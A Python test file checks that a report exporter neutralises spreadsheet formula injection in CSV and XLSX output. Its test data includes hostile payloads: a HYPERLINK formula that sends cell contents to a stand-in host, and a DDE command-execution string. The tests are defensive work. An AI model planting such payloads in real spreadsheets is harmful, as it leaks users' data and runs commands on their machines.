"""Exports never carry a live formula: text starting with = + - @ (or tab/CR) is neutralised in XLSX and CSV."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from core.formula_guard import neutralise
from core.reports.csv_format import csv_bytes
from core.reports.xlsx import workbook_bytes

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+86 138", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
        "\t=1+1", "\r=1+1"]
DATA = {
    "figures": [{"label": "=总数", "value": 3, "type": "int", "formula": "=A1*2"}],
    "tables": [{
        "title": "投诉明细",
        "columns": [{"key": "name", "label": "客户", "type": "text"}, {"key": "n", "label": "次数", "type": "int"},
                    {"key": "delta", "label": "变化", "type": "decimal"}],
        "rows": [{"name": text, "n": -2, "delta": -1.5} for text in EVIL] + [{"name": "张伟", "n": 1, "delta": 0}],
    }],
}


def test_the_helper_prefixes_formula_text_and_leaves_numbers_alone():
    assert [neutralise(t) for t in EVIL] == ["'" + t for t in EVIL]
    assert neutralise("张伟") == "张伟" and neutralise(-5) == -5 and neutralise("") == ""


def test_csv_cells_are_neutralised_but_negative_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(csv_bytes(DATA).decode("utf-8-sig"), newline="")))
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t in EVIL] + ["张伟"]
    assert body[0][1] == "-2" and body[0][2] == "-1.5"


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(workbook_bytes("投诉", DATA))
    wb = load_workbook(path)
    figures, table = wb["关键指标"], wb["投诉明细"]
    assert figures["A2"].value == "'=总数" and figures["C2"].value == "'=A1*2"
    cells = [table.cell(row=r, column=1) for r in range(2, 2 + len(EVIL))]
    assert all(c.data_type == "s" for c in cells)
    # XML may store a CR as LF (openpyxl versions differ): compare with line ends unified.
    assert [c.value.replace("\r", "\n") for c in cells] == ["'" + t.replace("\r", "\n") for t in EVIL]
    assert table.cell(row=2, column=2).value == -2 and table.cell(row=2, column=3).value == -1.5
    assert not [c for row in table.iter_rows() for c in row if c.data_type == "f"]
